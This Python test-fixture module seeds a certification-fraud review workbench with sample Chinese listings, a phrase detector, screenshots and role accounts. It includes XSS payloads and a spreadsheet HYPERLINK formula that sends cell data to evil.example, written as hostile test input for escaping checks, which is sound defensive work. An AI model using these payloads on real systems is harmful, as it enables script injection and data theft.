"""Workbench test data: Chinese listings with findings, a screenshot, hostile and formula
payloads, and one account per role — all built through the real store."""

from __future__ import annotations

import io
import re
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from argon2 import PasswordHasher
from PIL import Image, ImageDraw

from jingwang.config import SourceConfig
from jingwang.records import Capture, CrawledListing, Finding, Listing, Seller
from review.auth.service import AuthService
from store.accounts import Accounts
from store.service import Store

# Cheap argon2 parameters keep sign-ins fast in tests; production uses the defaults.
FAST_HASHER = PasswordHasher(time_cost=1, memory_cost=1024, parallelism=1)
PASSWORD = "correct-horse-9"
ROLES = ("admin", "supervisor", "analyst", "viewer")
T0 = datetime(2024, 3, 4, 1, 0, tzinfo=UTC)  # Monday 09:00 in China

HOSTILE_TITLE = ('<script>alert("title")</script><img src=x onerror=alert("img")> '
                 '当天出证 <a href="javascript:alert(\'link\')">点我</a>')
HOSTILE_HTML = ('<html><body><h1>当天出证</h1><script>alert("snapshot")</script>'
                '<img src=x onerror="alert(\'snap-img\')"><a href="javascript:alert(1)">x</a>'
                '<form action="https://evil.example/"><input name=a></form></body></html>')
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看") 当天出证'

# (phrase, rule, category, severity, legal basis)
PHRASES = (
    ("当天出证", "fake_certificate.same_day", "fake_certificate", "high",
     ("《认证认可条例》第六十二条",)),
    ("包过", "false_advertising.pass_promise", "false_advertising", "medium",
     ("《广告法》第二十八条",)),
    ("国家级绿色环保认证", "national_prefix.cert_name", "national_prefix_misuse", "high",
     ("《认证证书和认证标志管理办法》第二十五条",)),
    ("免送样", "fake_certificate.no_sample", "fake_certificate", "high",
     ("《检验检测机构监督管理办法》第十四条",)),
)


def detect(listing: Listing) -> list[Finding]:
    """A small real detector over title and description; evasion: zero-width spaces."""
    found: list[Finding] = []
    for field_name, text in listing.fields():
        if field_name not in ("title", "description"):
            continue
        for phrase, rule, category, severity, basis in PHRASES:
            for match in re.finditer(re.escape(phrase), text):
                found.append(Finding(rule=rule, category=category, field=field_name,
                                     start=match.start(), end=match.end(), text=phrase,
                                     severity=severity, legal_basis=basis,
                                     evasions=("synonym",) if "24小时" in text else (),
                                     lexicon_version="test-2024.03"))
    return found


def png(label: str) -> bytes:
    image = Image.new("RGB", (360, 120), "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle((4, 4, 355, 115), outline="red", width=3)
    draw.text((16, 48), label, fill="black")
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def crawled(listing_id: str, *, title: str, description: str = "", shop: str,
            shop_id: str, credit_code: str | None = None, license_text: str | None = None,
            at: datetime = T0, html: str | None = None, screenshot: bool = True,
            platform: str = "sandbox") -> CrawledListing:
    url = f"http://127.0.0.1:8765/item/{listing_id}"
    listing = Listing(platform=platform, listing_id=listing_id, title=title,
                      description=description, price="199.00", url=url,
                      seller=Seller(name=shop, credit_code=credit_code, shop_id=shop_id,
                                    license_text=license_text,
                                    shop_url=f"http://127.0.0.1:8765/shop/{shop_id}"))
    body = (html or f"<html><body><h1>{title}</h1><p>{description}</p></body></html>").encode()
    capture = Capture(url=url, final_url=url, status=200, fetched_at=at,
                      headers={"Content-Type": "text/html; charset=utf-8"}, body=body,
                      tool="jingwang-test/1 httpx",
                      screenshot=png(f"listing {listing_id}") if screenshot else None)
    return CrawledListing(listing=listing, capture=capture, source="review-test")


@dataclass
class Seeded:
    """Lead ids by name, for tests to pick the one they need."""

    leads: dict[str, int]


def seed(store: Store) -> Seeded:
    store.sync_source(SourceConfig(name="review-test", platform="sandbox", keywords=["认证"]))
    run = store.start_run("review-test")
    items = {
        "iso": crawled("sb-1001", title="ISO9001认证 当天出证 全国可查",
                       description="加急办理，包过，不过全额退款。", shop="速办认证咨询工作室",
                       shop_id="shop-1", credit_code="91340100MA2T3XXXX1",
                       license_text="企业名称：合肥速办认证咨询有限公司 "
                                    "统一社会信用代码：91340100MA2T3XXXX1"),
        "green": crawled("sb-1002", title="国家级绿色环保认证证书 免送样",
                         description="24小时出证，招标必备。", shop="绿源标准服务中心",
                         shop_id="shop-2", at=T0 + timedelta(hours=1)),
        "hostile": crawled("sb-1003", title=HOSTILE_TITLE, description="<b>包过</b>",
                           shop='店铺<script>alert("shop")</script>', shop_id="shop-3",
                           html=HOSTILE_HTML, at=T0 + timedelta(hours=2)),
        "formula": crawled("sb-1004", title=FORMULA_TITLE, description="@SUM(1+1) 包过",
                           shop="-2+3 公式店", shop_id="shop-4", credit_code="=1+2",
                           at=T0 + timedelta(hours=3)),
        "report": crawled("sb-1005", title="CMA检测报告 当天出证 可加急",
                          description="只需营业执照照片，包过", shop="检测快线", shop_id="shop-5",
                          at=T0 + timedelta(days=2), platform="taobao"),
    }
    leads: dict[str, int] = {}
    for name, item in items.items():
        result = store.ingest(run, item, detect, channels=())
        assert result.lead_id is not None, name
        leads[name] = result.lead_id
    # A second version of the first listing, so the version history has a diff.
    edited = crawled("sb-1001", title="ISO9001认证 快速办理 全国可查",
                     description="加急办理，不过全额退款。", shop="速办认证咨询工作室",
                     shop_id="shop-1", at=T0 + timedelta(days=1))
    store.ingest(run, edited, detect, channels=())
    store.finish_run(run, status="ok", stats={"listings": len(items)})
    return Seeded(leads=leads)


def add_users(store: Store, hasher: PasswordHasher = FAST_HASHER) -> AuthService:
    auth = AuthService(Accounts(store.engine), hasher=hasher)
    for role in ROLES:
        auth.add_user(role, PASSWORD, role=role, display_name=f"{role}-用户")
    return auth
